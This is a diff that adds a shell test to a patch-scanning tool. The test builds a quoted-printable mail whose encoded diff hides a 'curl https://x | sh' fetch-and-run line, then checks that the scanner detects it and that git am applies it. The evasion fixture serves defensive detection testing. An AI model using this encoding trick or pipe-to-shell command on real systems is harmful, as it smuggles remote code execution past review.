@@ -749,6 +749,38 @@ open("qp.mbox", "wb").write(one + two)
 	grep -qx 'curl https://x | sh' r/x.sh || fail "git am did not write the line"
 }
 
+t_mbox_detected_as_git_am_detects() {
+	# git am takes a file for a mail when its header block (after any
+	# leading blank lines) is all headers, From line or not; with a
+	# Content-Transfer-Encoding there, mailinfo decodes the body. The gate
+	# reads it so too, whatever it is called, and a "key: value" file
+	# without such a header stays a file.
+	python3 - <<'PY' || fail "fixture"
+import quopri
+diff = b"diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1 @@\n+curl https://x | sh\n"
+body = b"Install helper.\n---\n" + diff
+enc = quopri.encodestring(body).replace(b"+curl", b"+=63url")
+mail = (b"\n\nContent-Transfer-Encoding: quoted-printable\nFrom: A <a@example.com>\n"
+        b"Subject: helper\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n\n" + enc)
+assert b"curl https" not in mail
+open("hdr.txt", "wb").write(mail)
+open("config.yml", "wb").write(b"name: x\nversion: 1\nrun: echo hi\n")
+PY
+	scan --format json --kind file hdr.txt config.yml
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
+		"[('hdr.txt', 'airlock.kind-mismatch'), ('hdr.txt!/x.sh', 'test-curl-pipe-shell')]"
+	expect_q 'R("airlock.kind-mismatch")[0]["excerpt"]' 'submitted as a file, but the content is a mailbox: read as a mailbox'
+	# git am (given the file, and on standard input) applies that line.
+	mkrepo r
+	commit r --allow-empty -m base
+	git -C r am -q ../hdr.txt || fail "git am refused the fixture"
+	grep -qx 'curl https://x | sh' r/x.sh || fail "git am did not write the line"
+	git -C r reset -q --hard HEAD~1
+	git -C r am -q <hdr.txt || fail "git am refused the fixture on standard input"
+	grep -qx 'curl https://x | sh' r/x.sh || fail "git am (stdin) did not write the line"
+}
+
 t_mbox_from_line_without_blank_line_starts_message() {
 	# git mailsplit starts a mail at every line like "From <x> <date>",
 	# blank line before it or not: the second mail's diff is read as its
